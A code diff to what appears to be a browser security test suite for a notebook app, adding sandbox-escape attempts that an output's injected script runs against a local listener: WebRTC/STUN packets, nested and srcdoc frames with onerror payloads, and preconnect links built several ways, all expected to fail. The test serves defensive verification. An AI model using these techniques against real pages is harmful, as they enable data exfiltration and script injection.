@@ -1,3 +1,4 @@
+import { createSocket } from "node:dgram";
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 import { expect, inject, onTestFinished, test } from "vitest";
@@ -6,20 +7,25 @@ import { ask, TOKEN } from "./server.ts";
 
 useBrowser();
 
-/** Somebody who waits for whatever an output may send out. */
-async function attacker(): Promise<{ url: string; heard: string[] }> {
+/** Somebody who waits for whatever an output may send out: requests, connections without any, and packets. */
+async function attacker(): Promise<{ url: string; stun: string; heard: string[] }> {
   const heard: string[] = [];
   const server = createServer((request, response) => {
     heard.push(request.url ?? "");
     response.setHeader("Access-Control-Allow-Origin", "*");
     response.end("x");
   });
+  server.on("connection", () => heard.push("a connection"));
   await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const packets = createSocket("udp4");
+  packets.on("message", () => heard.push("a packet"));
+  await new Promise<void>((resolve) => packets.bind(0, "127.0.0.1", resolve));
   onTestFinished(() => {
     server.closeAllConnections();
     server.close();
+    packets.close();
   });
-  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard };
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, stun: `stun:127.0.0.1:${packets.address().port}`, heard };
 }
 
 /** What a script of an output tries, each with what came of it: `open` would be a hole. */
@@ -59,6 +65,27 @@ const loads = (tag, attribute, extra = {}) => new Promise((resolve, reject) => {
   await attempt("prefetch", () => loads("link", "href", { rel: "prefetch" }));
   await attempt("import", () => import(URL_ + "/import.js"));
   await attempt("worker", () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = resolve; w.onerror = reject; }));
+  const call = (Peer) => new Promise((resolve, reject) => {
+    const peer = new Peer({ iceServers: [{ urls: STUN }] });
+    peer.createDataChannel("x");
+    peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === "complete") resolve(); };
+    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(reject);
+  });
+  const within = (how) => new Promise((resolve) => { const frame = document.createElement("iframe"); frame.onload = () => resolve(frame.contentWindow); how(frame); document.body.append(frame); setTimeout(() => resolve(frame.contentWindow), 300); });
+  await attempt("webrtc", () => call(window.RTCPeerConnection));
+  await attempt("webrtc of the page", () => call(parent.RTCPeerConnection));
+  await attempt("webrtc of a frame within", async () => call((await within(() => undefined)).RTCPeerConnection));
+  await attempt("webrtc of a script in a frame within", async () => { await within((frame) => { frame.srcdoc = "<script>new RTCPeerConnection({ iceServers: [{ urls: '" + STUN + "' }] }).createDataChannel('x'); parent.leak = 1; parent.postMessage('leak', '*')</" + "script><img src=x onerror=parent.postMessage('leak','*')>"; }); await new Promise((resolve, reject) => { onmessage = ({ data }) => { if (data === "leak") resolve(); }; setTimeout(reject, 500); }); });
+  await attempt("webrtc of a javascript: frame", async () => call((await within((frame) => { frame.src = "javascript:'<p>x</p>'"; })).RTCPeerConnection));
+  const link = (make) => { const element = make(); element.rel = "preconnect"; element.href = URL_; document.body.append(element); throw 0; };
+  await attempt("preconnect", () => link(() => document.createElement("link")));
+  await attempt("preconnect by namespace", () => link(() => document.createElementNS("http://www.w3.org/1999/xhtml", "h:link")));
+  await attempt("preconnect by markup", () => { document.body.insertAdjacentHTML("beforeend", "<" + "LINK rel=preconnect href=" + URL_ + ">"); throw 0; });
+  await attempt("preconnect by a fragment", () => { document.body.append(document.createRange().createContextualFragment("<" + "link rel=preconnect href=" + URL_ + ">")); throw 0; });
+  await attempt("preconnect by another document", () => link(() => new DOMParser().parseFromString("<" + "link>", "text/html").querySelector("link") ?? document.implementation.createHTMLDocument().createElement("link")));
+  await attempt("preconnect by an extended element", () => link(() => { class Mine extends HTMLLinkElement {} customElements.define("my-link", Mine, { extends: "link" }); return new Mine(); }));
+  await attempt("the frame's own script", () => { if (document.querySelector('body > script, head > script') === null) throw 0; });
+  await attempt("a script element", () => { const s = document.createElement("script"); s.text = "window.ran = 1"; document.body.append(s); if (window.ran !== 1) throw 0; });
   await attempt("window", () => { if (window.open(URL_ + "/window") === null) throw 0; });
   await attempt("alert", () => { alert("pwned"); throw 0; });
   await attempt("form", () => { const f = document.createElement("form"); f.action = URL_ + "/form"; f.method = "post"; document.body.append(f); f.submit(); throw 0; });
@@ -74,7 +101,7 @@ const loads = (tag, attribute, extra = {}) => new Promise((resolve, reject) => {
 `;
 
 test("an output's scripts reach neither the page, nor the token, nor the network", async () => {
-  const { url, heard } = await attacker();
+  const { url, stun, heard } = await attacker();
   const context = await visitor();
   const name = freshName("attack");
   const page = await openSession(context, name);
@@ -82,13 +109,13 @@ test("an output's scripts reach neither the page, nor the token, nor the network
   page.on("dialog", (dialog) => { dialogs.push(dialog.message()); void dialog.dismiss(); });
   context.on("page", (other) => popups.push(other.url()));
   const before = page.url();
-  const script = ATTEMPTS.replaceAll("URL_", JSON.stringify(url)).replaceAll("SERVER", JSON.stringify(inject("url")));
+  const script = ATTEMPTS.replaceAll("STUN", JSON.stringify(stun)).replaceAll("URL_", JSON.stringify(url)).replaceAll("SERVER", JSON.stringify(inject("url")));
   await runCell(page, "from IPython.display import HTML, display\ndisplay(HTML('<p>an innocent neighbour</p>'))");
   await page.frameLocator(".frame").getByText("an innocent neighbour").waitFor();
   await runCell(page, `display(HTML(${JSON.stringify(`<script>${script}</script>`)}))`);
   const frame = page.frameLocator(".cell:last-of-type .frame");
   await frame.getByText(/attempts: \d+; open/).waitFor();
-  expect(await frame.locator("body").innerText()).toMatch(/attempts: 2\d; open: \[\]$/);
+  expect(await frame.locator("body").innerText()).toMatch(/attempts: 4\d; open: \[\]$/);
   expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
   expect(await page.frameLocator(".frame >> nth=0").locator("body").innerText()).toBe("an innocent neighbour");
   expect(page.url()).toBe(before);
@@ -154,7 +181,7 @@ test("a link of an output is opened only after its address was shown", async () 
   const [other] = await Promise.all([context.waitForEvent("page"), page.getByRole("link", { name: "Open in a new tab" }).click()]);
   await other.waitForLoadState();
   expect(heard.filter((path) => path.startsWith("/link"))).toEqual(["/link?secret"]);
-  expect(await other.evaluate(() => [window.opener, document.referrer])).toEqual([null, ""]);
+  expect(await other.evaluate((): unknown => [window.opener, document.referrer])).toEqual([null, ""]);
 });
 
 test("the page's own policy lets in no script but its own, and no page frames it", async () => {
